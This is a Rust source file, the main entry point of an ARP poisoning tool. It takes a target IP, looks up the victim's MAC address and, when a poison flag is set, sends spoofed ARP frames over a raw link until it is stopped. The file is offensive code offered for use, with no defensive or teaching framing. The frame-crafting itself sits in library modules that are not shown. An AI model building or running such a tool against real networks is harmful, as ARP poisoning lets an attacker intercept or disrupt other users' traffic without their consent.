use arp_poisoner::arp_modules::link::open_link;
use arp_poisoner::arp_modules::local_identity::resolve_local_identity_with;
use arp_poisoner::arp_modules::resolver::parse_target_ip;
use arp_poisoner::cli::{Cli, Config};
use arp_poisoner::report::{render_identity, render_result, Console, ResolutionReport};
use arp_poisoner::{logging, LinkProbe, NeighborTableReader, Poisoner, Resolver, Result, StopSignal};
use clap::Parser;
use std::io;
use std::process::ExitCode;
use tracing::error;

fn run(config: Config) -> Result<ExitCode> {
    let mut console = Console::new(io::stdout(), io::stderr(), config.json);

    let identity = resolve_local_identity_with(config.probe);
    if !config.json {
        console.status(&render_identity(&identity))?;
    }

    let target = match config.target.clone() {
        Some(target) => target,
        None => console.prompt_target(io::stdin().lock())?,
    };
    if target.trim().is_empty() {
        console.status("[Error] No target IP provided. Exiting.")?;
        return Ok(ExitCode::SUCCESS);
    }
    let target_ip = parse_target_ip(&target)?;

    let probe = LinkProbe::new(identity.clone(), config.interface.clone());
    let mut resolver = Resolver::new(NeighborTableReader::new(), probe)
        .with_timeout(config.resolution_timeout);
    let result = resolver.resolve_ip(target_ip)?;

    if config.json {
        console.report(&ResolutionReport::new(&identity, target_ip, result)?.to_json()?)?;
    } else {
        console.report(&render_result(target_ip, &result))?;
    }

    let Some(victim_mac) = result.mac() else {
        return Ok(ExitCode::FAILURE);
    };
    if !config.poison {
        return Ok(ExitCode::SUCCESS);
    }

    let (channel, endpoint) = open_link(&identity, config.interface.as_deref())?;
    let stop = StopSignal::on_ctrlc()?;

    eprintln!(
        "\n[Info] Calling ARP poisoning on {} as {}. Press Ctrl-C to stop.",
        channel.interface_name(),
        endpoint.sender_ip
    );
    let frames_sent = Poisoner::new(channel)
        .with_interval(config.poison_interval)
        .poison(&endpoint.identity(), target_ip, victim_mac, &stop)?;
    eprintln!("\n[Info] Done. {frames_sent} frames sent.");

    Ok(ExitCode::SUCCESS)
}

fn main() -> ExitCode {
    let config = Config::from(Cli::parse());
    if let Err(e) = logging::init_logging(&config.logging) {
        eprintln!("[Error] {e}");
        return ExitCode::FAILURE;
    }

    match run(config) {
        Ok(code) => code,
        Err(e) => {
            error!("{}", e);
            eprintln!("[Error] {e}");
            ExitCode::FAILURE
        }
    }
}
